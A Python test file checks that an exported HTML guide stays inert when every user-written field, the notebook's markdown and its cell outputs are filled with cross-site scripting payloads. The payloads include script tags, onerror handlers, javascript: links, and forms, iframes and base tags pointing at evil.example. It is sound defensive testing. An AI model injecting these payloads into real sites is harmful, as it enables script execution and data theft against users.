"""A guide whose every name, text and output tries to act, opened by a browser that reports all."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from itertools import count
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell
from playwright.sync_api import BrowserContext, Dialog, Page

from segkit.engagement.demo import create_demo
from segkit.engagement.settings import Engagement, read_engagement
from segkit.export import export_guide

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=//evil.example/x onerror=alert(1)>',
    "' onmouseover='alert(1)' x='",
    "</title></style></script></svg><script>alert(1)</script>",
    "</code></pre><iframe src=https://evil.example/></iframe>",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% raw %}${alert(1)}",
    "<!--rows--><svg onload=alert(1)>",
    "\u202eevil \u0645\u062a\u062c\u0631 \u2066<b>",
    '"]}</template><base href=https://evil.example/>',
    "<a href=# id=content name=views>x</a>",
)
TEXTS = {"name", "description", "title", "trigger", "condition", "example", "query", "value"}

MARKDOWN = """\
## <img src=x onerror=alert(1)> A heading

<script>alert(1)</script> <style>*{display:none}</style> <meta http-equiv=refresh content="0;url=https://evil.example/">
<a href="JaVa\tScRiPt:alert(1)">odd case</a> <a href="&#106;avascript:alert(1)">entities</a>
<a href=" javascript:alert(1)">blank</a> <a href="vbscript:msgbox(1)">vb</a>
<a href="data:text/html,<script>alert(1)</script>">data</a>
[one](javascript:alert(1)) [two](  javascript&colon;alert(1)) [three](data:text/html;base64,PHNjcmlwdD4=)
![remote](https://evil.example/a.png) ![null](a%00b.png) ![odd](http://[evil.example) <img src="//evil.example/b.png">
<form action="https://evil.example"><input name=content><button>go</button></form>
<object data="https://evil.example/o"></object><embed src="https://evil.example/e"><link rel=stylesheet href=https://evil.example/c.css>
<div id=content class="sk-tabs"><div class="sk-tab">no name</div><div class="sk-tab">no name</div></div>
<div class="sk-table" data-sk-table onclick="alert(1)" style="position:fixed;inset:0">over everything</div>
<svg><animate onbegin=alert(1)></svg><math><mtext><script>alert(1)</script></mtext></math>

<b title="as id=" lang="x onmouseover=alert(1) y">1</b> <b title="as id=" lang="x onmouseover=alert(1) y">2</b>
<p id="sk-search-box">no box</p> <h2 id="identify">not the heading</h2>

## Content

```"><script>alert(1)</script>
</code></pre><script>alert(1)</script>
```
"""

OWN_CODE = """\
from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML('<script>alert(1)</script><img src=https://evil.example/i onerror=alert(1)><div id=cover>x</div>'))
display(Javascript('alert(1)'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'))
display({'image/png': '"><script>alert(1)</script>', 'text/plain': '"><script>alert(1)</script>'}, raw=True)
print('</pre><script>alert(1)</script>')
display(HTML('<div class="sk-event">x</div><div class="sk-code">x</div><nav class="sk-contents">x</nav>'))
"""


def poisoned(content: object, payloads: Iterator[str], numbers: Iterator[int]) -> object:
    """The snapshot with a payload in every text that a person writes."""
    if isinstance(content, list):
        return [poisoned(item, payloads, numbers) for item in content]
    if not isinstance(content, dict):
        return content
    return {
        key: f"{next(payloads)} {next(numbers)}"
        if key in TEXTS and isinstance(value, str) and value
        else poisoned(value, payloads, numbers)
        for key, value in content.items()
    }


def hostile_engagement(folder: Path) -> Engagement:
    """The demo engagement after somebody hostile has been everywhere."""
    engagement = create_demo(folder)
    payloads = (PAYLOADS[n % len(PAYLOADS)] for n in count())
    snapshot = json.loads(engagement.snapshot_file.read_text(encoding="utf-8"))
    for part in ("plan", "workspace", "inputs"):
        snapshot[part] = poisoned(snapshot[part], payloads, count(1))
    engagement.snapshot_file.write_text(json.dumps(snapshot), encoding="utf-8")
    settings = engagement.file.read_text(encoding="utf-8")
    bad_name = json.dumps(f"{PAYLOADS[3]} {PAYLOADS[1]}")
    settings = settings.replace('"Quillmoor Supply"', bad_name, 1)
    settings = settings.replace('"Robin Ashdown"', json.dumps(PAYLOADS[0]), 1)
    engagement.file.write_text(settings, encoding="utf-8")
    notebook = nbformat.read(engagement.notebook, as_version=4)
    notebook.metadata["title"] = PAYLOADS[3]
    notebook.cells.append(new_markdown_cell(MARKDOWN))
    notebook.cells.append(new_code_cell("guide.identify()"))  # once more: its ids are there already
    nbformat.write(notebook, engagement.notebook)
    return read_engagement(folder)


@pytest.fixture
def reports(context: BrowserContext) -> Callable[[Path], tuple[Page, list[str]]]:
    """Opens a file and gives the page with everything that it did."""

    def open_file(file: Path) -> tuple[Page, list[str]]:
        told: list[str] = []

        def closed(dialog: Dialog) -> None:
            told.append(f"dialog {dialog.message}")
            dialog.dismiss()

        page = context.new_page()
        page.add_init_script(
            "addEventListener('securitypolicyviolation', e => console.error('CSP ' + e.blockedURI))"
        )
        page.on("request", lambda request: told.append(request.url))
        page.on("console", lambda message: told.append(message.text))
        page.on("pageerror", lambda error: told.append(str(error)))
        page.on("dialog", closed)
        page.goto(file.as_uri())
        page.wait_for_timeout(500)
        return page, [one for one in told if not one.startswith(("file:", "data:"))]

    return open_file


def use_everything(page: Page) -> None:
    """Search, filter, unfold, hover and follow, as a curious reader does."""
    page.keyboard.press("/")
    page.keyboard.type("alert")
    page.keyboard.press("Enter")
    page.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true; })")
    for box in page.locator(".sk-tools input[type=search]").all():
        box.fill("evil")
    page.evaluate(
        """() => document.querySelectorAll('main *').forEach(one =>
            one.dispatchEvent(new MouseEvent('mouseover', { bubbles: true })))"""
    )


def what_could_act(page: Page) -> list[str]:
    """Elements and attributes of the page that no guide has."""
    found: list[str] = page.evaluate(
        """() => [...document.querySelectorAll('*')].flatMap(one => [
            ...(/^(iframe|object|embed|form|base|math|animate|foreignobject|template)$/i.test(one.localName)
                ? [one.localName] : []),
            ...[...one.attributes].filter(({ name, value }) =>
                /^on|^style$|^srcset$/.test(name) && !(name === 'style' && one.closest('.sk-live'))
                || /^(href|src|action|xlink:href)$/.test(name)
                && !/^(https?:|mailto:|#|data:image\\/|data:,)/.test(value.trim().toLowerCase())
            ).map(({ name, value }) => `${one.localName} ${name}=${value.slice(0, 60)}`),
        ])"""
    )
    return found


def what_copies_could_act(page: Page) -> list[str]:
    """Elements and attributes of every section's copy that no wiki needs."""
    found: list[str] = page.evaluate(
        """async () => {
            const copies = [];
            window.ClipboardItem = class { constructor(kinds) { this.kinds = kinds; } };
            navigator.clipboard.write = async ([{ kinds }]) => {
                copies.push(await kinds["text/html"].text());
            };
            const buttons = [...document.querySelectorAll(".sk-copy-section")];
            buttons.forEach((button) => button.click());
            while (copies.length < buttons.length) await new Promise((go) => setTimeout(go, 20));
            const kept = /^(a|b|blockquote|br|code|del|em|h[1-6]|hr|i|img|li|ol|p|pre|s|strong|sub|sup|table|tbody|td|th|thead|tr|ul)$/;
            return copies.flatMap((html) => [
                ...new DOMParser().parseFromString(html, "text/html").querySelectorAll("head > *, body *"),
            ]).flatMap((one) => [
                ...(kept.test(one.localName) ? [] : [one.localName]),
                ...[...one.attributes].filter(({ name, value }) =>
                    !/^(href|src|alt|colspan|start)$/.test(name)
                    || name === "href" && !/^(https?:|mailto:)/.test(value)
                    || name === "src" && !value.startsWith("data:image/")
                ).map(({ name, value }) => `${one.localName} ${name}=${value.slice(0, 60)}`),
            ]);
        }"""
    )
    return found


@pytest.mark.parametrize("own_code", [False, True], ids=["plain", "own code"])
def test_nothing_of_a_hostile_engagement_acts(
    reports: Callable[[Path], tuple[Page, list[str]]],
    tmp_path: Path,
    agree: Callable[[Path], None],
    *,
    own_code: bool,
) -> None:
    """No request, no message, no dialog, no violation; the page still works."""
    engagement = hostile_engagement(tmp_path / "demo")
    if own_code:
        notebook = nbformat.read(engagement.notebook, as_version=4)
        notebook.cells.append(new_code_cell(OWN_CODE))
        nbformat.write(notebook, engagement.notebook)
        agree(engagement.notebook)
    page, told = reports(export_guide(engagement, draft=True))

    use_everything(page)
    page.wait_for_timeout(300)

    assert told == []
    assert what_could_act(page) == []
    assert page.locator(".sk-copy-section").count() > 20
    assert what_copies_could_act(page) == []
    assert told == []
    assert page.evaluate("document.scripts.length") == 1
    # the page's own, its colours of code, and the foot of its printed pages
    assert page.evaluate("document.styleSheets.length") == 3
    doubled = page.evaluate(
        """() => { const ids = [...document.querySelectorAll("[id]")].map(one => one.id);
            return ids.filter((id, n) => ids.indexOf(id) !== n); }"""
    )
    assert doubled == []
    assert page.locator(".sk-live").count() > 5
